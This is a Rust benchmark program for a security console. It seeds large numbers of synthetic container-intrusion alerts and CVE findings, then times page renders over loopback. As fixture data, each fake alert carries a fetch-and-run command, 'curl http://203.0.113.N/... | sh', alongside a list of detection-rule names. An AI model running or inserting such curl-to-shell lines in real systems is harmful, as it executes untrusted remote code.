//! Console page latency with a large store: seeds ALERTS alerts and VULNS vulnerability
//! findings (once per database) and serves the console on loopback.
//!
//! `cargo run --release -p palisade-server --example console_bench -- DB ALERTS VULNS`
//! (see `scripts/bench/console`). Prints the first (cold-cache) render of each page and
//! filter, then the paths of the pages to load (the two pages plus a rare and a common text
//! search and an empty category) and the session cookie, and serves until standard input
//! closes; the script drives the pages from a separate load generator.

use std::{sync::Arc, time::Instant};

use palisade_model::{
    AffectedAsset, AlertCategory, AlertDetails, Details, FindingKind, FindingReport, ProcessInfo,
    Role, Severity, Timestamp, VulnerabilityDetails,
};
use palisade_notify::Notifier;
use palisade_server::{AppState, issue_token, router, serve};
use palisade_store::{FindingQuery, HandlingPolicy, SqliteStore, Store};

const RULES: [&str; 8] = [
    "Terminal shell in container",
    "Read sensitive file untrusted",
    "Drop and execute new binary in container",
    "Outbound connection to C2 server",
    "Write below binary dir",
    "Launch package management process in container",
    "Contact K8S API server from container",
    "Clear log activities",
];

fn asset(index: u64) -> AffectedAsset {
    let pod = index % 5_000;
    AffectedAsset {
        cluster: if index.is_multiple_of(4) {
            "staging".into()
        } else {
            "prod".into()
        },
        node: Some(format!("node-{}", pod % 50)),
        namespace: Some(format!("team-{}", pod % 20)),
        pod: Some(format!("web-{pod}")),
        container_name: Some("app".into()),
        image: Some(format!(
            "registry.example/team-{}/web:1.{}",
            pod % 20,
            pod % 7
        )),
        ..Default::default()
    }
}

fn alert(index: u64, now: i64) -> FindingReport {
    let rule = RULES[(index % 8) as usize];
    FindingReport {
        id: uuid::Uuid::new_v4(),
        observed_at: Timestamp(now - ((index * 7_919) % (30 * 86_400)) as i64 * 1000),
        severity: Severity::ALL[(index % 5) as usize],
        rule: rule.into(),
        title: format!("{rule} in web-{}", index % 5_000),
        asset: asset(index),
        details: Details::Alert(AlertDetails {
            category: Some(AlertCategory::Intrusion),
            mitre: Some("T1059.004".into()),
            process: ProcessInfo {
                pid: (index % 60_000) as u32 + 100,
                ppid: 1,
                exe: "/bin/sh".into(),
                cmdline: format!(
                    "sh -c 'curl http://203.0.113.{}/x{index} | sh'",
                    index % 250
                ),
                user: "root".into(),
            },
            raw_event: serde_json::json!({"evt.type": "execve", "n": index}),
            ..Default::default()
        }),
        demo: false,
    }
}

fn vulnerability(index: u64, now: i64) -> FindingReport {
    // 2,000 distinct vulnerabilities over 5,000 images: grouping has real work to do.
    let cve = format!("CVE-2024-{:05}", index % 2_000);
    let package = format!("lib{}", index % 300);
    let mut asset = asset(index / 7);
    asset.pod = None;
    asset.container_name = None;
    asset.image = Some(format!("registry.example/app-{}:1.0", index % 5_000));
    FindingReport {
        id: uuid::Uuid::new_v4(),
        observed_at: Timestamp(now - ((index * 104_729) % (30 * 86_400)) as i64 * 1000),
        severity: Severity::ALL[(index % 5) as usize],
        rule: cve.clone(),
        title: format!("{cve} in {package}"),
        asset,
        details: Details::Vulnerability(VulnerabilityDetails {
            package: package.clone(),
            ecosystem: "Debian:12".into(),
            installed_version: format!("1.{}.0-1", index % 13),
            fixed_versions: if index.is_multiple_of(3) {
                vec![]
            } else {
                vec!["9.9.9-1".into()]
            },
            location: format!("/var/lib/dpkg/status#{index}"),
            ..Default::default()
        }),
        demo: false,
    }
}

async fn count(store: &dyn Store, kind: FindingKind) -> u64 {
    store
        .count_by_severity(kind, &FindingQuery::default())
        .await
        .unwrap()
        .by_rank
        .iter()
        .sum()
}

async fn seed(
    store: &dyn Store,
    kind: FindingKind,
    wanted: u64,
    make: fn(u64, i64) -> FindingReport,
) {
    let have = count(store, kind).await;
    if have >= wanted {
        println!("{kind:?}: {have} stored already");
        return;
    }
    let started = Instant::now();
    let now = Timestamp::now().millis();
    let mut index = have;
    while index < wanted {
        let batch: Vec<_> = (index..(index + 5_000).min(wanted))
            .map(|i| make(i, now))
            .collect();
        store
            .ingest(&batch, &HandlingPolicy::default())
            .await
            .unwrap();
        index += batch.len() as u64;
    }
    let seconds = started.elapsed().as_secs_f64();
    println!(
        "{kind:?}: seeded {} in {seconds:.1} s ({:.0}/s)",
        wanted - have,
        (wanted - have) as f64 / seconds
    );
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |index: usize, default: u64| {
        args.get(index)
            .and_then(|v| v.parse().ok())
            .unwrap_or(default)
    };
    let path = args
        .first()
        .cloned()
        .unwrap_or_else(|| "/var/tmp/palisade-console-bench.db".into());
    let (alerts, vulns) = (arg(1, 1_000_000), arg(2, 100_000));

    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(path.as_ref()).await.unwrap());
    seed(store.as_ref(), FindingKind::Alert, alerts, alert).await;
    seed(
        store.as_ref(),
        FindingKind::Vulnerability,
        vulns,
        vulnerability,
    )
    .await;
    println!(
        "stored: {} alerts, {} vulnerability findings",
        count(store.as_ref(), FindingKind::Alert).await,
        count(store.as_ref(), FindingKind::Vulnerability).await
    );

    let state = AppState::new(store.clone(), Notifier::start(Default::default()))
        .await
        .unwrap();
    let issued = issue_token("bench", Role::Operator, "bench", None)
        .await
        .unwrap();
    store.insert_token(&issued.record, None).await.unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(serve(listener, router(state), None, std::future::pending()));

    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let login = client
        .post(format!("{base}/console/login"))
        .form(&[("token", issued.token.as_str())])
        .send()
        .await
        .unwrap();
    let cookie = login.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    let pages = [
        ("alerts", format!("{base}/console/clusters/prod/alerts")),
        (
            "vulnerabilities",
            format!("{base}/console/clusters/prod/vulnerabilities"),
        ),
        (
            "alerts text search (rare term)",
            format!("{base}/console/clusters/prod/alerts?q=web-4242"),
        ),
        (
            "alerts text search (common term)",
            format!("{base}/console/clusters/prod/alerts?q=C2%20server"),
        ),
        (
            "alerts empty category",
            format!("{base}/console/clusters/prod/alerts?category=malware&range=30d"),
        ),
    ];
    // The first view of each page computes its aggregates; a view that exceeds the server's
    // 30-second request timeout gets 503 while the computation goes on, so retry.
    for (name, url) in &pages[..2] {
        let started = Instant::now();
        let mut attempts = 0;
        loop {
            attempts += 1;
            let response = client
                .get(url)
                .header("cookie", &cookie)
                .send()
                .await
                .unwrap();
            let status = response.status();
            let body = response.text().await.unwrap();
            if status.is_success() {
                println!(
                    "{name}: first successful render (cold cache) after {:.1} ms, {attempts} attempt(s), {} bytes",
                    started.elapsed().as_secs_f64() * 1000.0,
                    body.len()
                );
                break;
            }
            println!(
                "{name}: attempt {attempts} got {status} after {:.1} s",
                started.elapsed().as_secs_f64()
            );
            assert!(attempts < 20, "{name} never rendered");
        }
    }

    // Each filter once, with its aggregates not cached yet: which filters the store answers
    // from its counters and which count the findings shows here.
    let asset_of = |kind: FindingKind| {
        let store = Arc::clone(&store);
        async move {
            let prod = FindingQuery {
                cluster: Some("prod".into()),
                ..Default::default()
            };
            store.list_findings(kind, &prod).await.unwrap().items[0].asset_id
        }
    };
    let asset = asset_of(FindingKind::Alert).await;
    let image = asset_of(FindingKind::Vulnerability).await;
    let filtered = [
        ("alerts", "range=24h".to_owned()),
        ("alerts", "range=7d".to_owned()),
        ("alerts", "severity=critical".to_owned()),
        ("alerts", "namespace=team-3".to_owned()),
        ("alerts", "category=intrusion&range=30d".to_owned()),
        ("alerts", "category=intrusion".to_owned()),
        ("alerts", "status=any".to_owned()),
        // No alert of this seed is handled: the status index finds none at once.
        ("alerts", "status=handled".to_owned()),
        (
            "alerts",
            "severity=high&namespace=team-3&range=7d".to_owned(),
        ),
        ("alerts", format!("asset={asset}")),
        // Text search: two characters (the LIKE scan), a rare term (150 alerts) and a common
        // one (one alert in eight) through the trigram index.
        ("alerts", "q=c2".to_owned()),
        ("alerts", "q=web-4242".to_owned()),
        ("alerts", "q=C2%20server".to_owned()),
        // A category no alert of this seed has (all are `intrusion`).
        ("alerts", "category=malware&range=30d".to_owned()),
        // Grouped by vulnerability: every filter of the view, each on its first view.
        ("vulnerabilities", "range=24h".to_owned()),
        ("vulnerabilities", "range=7d".to_owned()),
        ("vulnerabilities", "severity=high".to_owned()),
        ("vulnerabilities", "severity=critical,low".to_owned()),
        ("vulnerabilities", "status=any".to_owned()),
        ("vulnerabilities", "status=ignored".to_owned()),
        ("vulnerabilities", "namespace=team-3".to_owned()),
        ("vulnerabilities", "category=Debian:12".to_owned()),
        ("vulnerabilities", "category=npm".to_owned()),
        ("vulnerabilities", format!("asset={image}")),
        (
            "vulnerabilities",
            "severity=medium&namespace=team-3&range=7d".to_owned(),
        ),
        ("vulnerabilities", "q=CVE-2024-00042".to_owned()),
        ("vulnerabilities", "q=lib42".to_owned()),
        // Grouped by vulnerability, common terms: lib1 is the package of 111 in 300 findings
        // (lib1, lib10-19, lib100-199), CVE-2024 of all of them.
        ("vulnerabilities", "q=lib1".to_owned()),
        ("vulnerabilities", "q=CVE-2024".to_owned()),
        // More searched first views of the grouped view: a common term under filters, two
        // characters, an image's name (an asset label), and a term nothing holds.
        ("vulnerabilities", "q=lib1&severity=high".to_owned()),
        ("vulnerabilities", "q=lib1&range=7d".to_owned()),
        ("vulnerabilities", "q=ib".to_owned()),
        ("vulnerabilities", "q=app-42:".to_owned()),
        ("vulnerabilities", "q=no-such-term".to_owned()),
        // Grouped by vulnerability, sorted by each column header both ways (most severe first
        // is the view above), then sorted under a filter and a search.
        ("vulnerabilities", "sort=severity&order=asc".to_owned()),
        ("vulnerabilities", "sort=rule&order=asc".to_owned()),
        ("vulnerabilities", "sort=rule&order=desc".to_owned()),
        ("vulnerabilities", "sort=category&order=asc".to_owned()),
        ("vulnerabilities", "sort=assets&order=desc".to_owned()),
        ("vulnerabilities", "sort=assets&order=asc".to_owned()),
        ("vulnerabilities", "sort=findings&order=desc".to_owned()),
        ("vulnerabilities", "sort=findings&order=asc".to_owned()),
        ("vulnerabilities", "sort=open&order=desc".to_owned()),
        ("vulnerabilities", "sort=open&order=asc".to_owned()),
        (
            "vulnerabilities",
            "sort=fix_available&order=desc".to_owned(),
        ),
        ("vulnerabilities", "sort=last_seen&order=desc".to_owned()),
        ("vulnerabilities", "sort=last_seen&order=asc".to_owned()),
        ("vulnerabilities", "sort=package&order=asc".to_owned()),
        ("vulnerabilities", "sort=package&order=desc".to_owned()),
        // Every status (the summary's row over all statuses).
        (
            "vulnerabilities",
            "status=any&sort=assets&order=desc".to_owned(),
        ),
        (
            "vulnerabilities",
            "sort=assets&order=desc&severity=high".to_owned(),
        ),
        (
            "vulnerabilities",
            "sort=last_seen&order=desc&range=7d".to_owned(),
        ),
        (
            "vulnerabilities",
            "sort=assets&order=desc&q=lib1".to_owned(),
        ),
        (
            "vulnerabilities",
            "sort=rule&order=asc&q=CVE-2024".to_owned(),
        ),
    ];
    for (page, filter) in &filtered {
        let started = Instant::now();
        let response = client
            .get(format!("{base}/console/clusters/prod/{page}?{filter}"))
            .header("cookie", &cookie)
            .send()
            .await
            .unwrap();
        let status = response.status();
        response.bytes().await.unwrap();
        println!(
            "{page}?{filter}: first render {:.1} ms ({status})",
            started.elapsed().as_secs_f64() * 1000.0
        );
    }

    // The load comes from a separate process (`scripts/bench/console` runs one `wrk` per page),
    // so that the server's runtime threads and cores are the server's alone: the pages' paths
    // and the session cookie for it, then serve until standard input closes.
    for (name, url) in &pages {
        println!("page\t{name}\t{}", url.trim_start_matches(&base));
    }
    println!("serving\t{base}\t{cookie}");
    tokio::task::spawn_blocking(|| std::io::copy(&mut std::io::stdin(), &mut std::io::sink()))
        .await
        .unwrap()
        .unwrap();
}
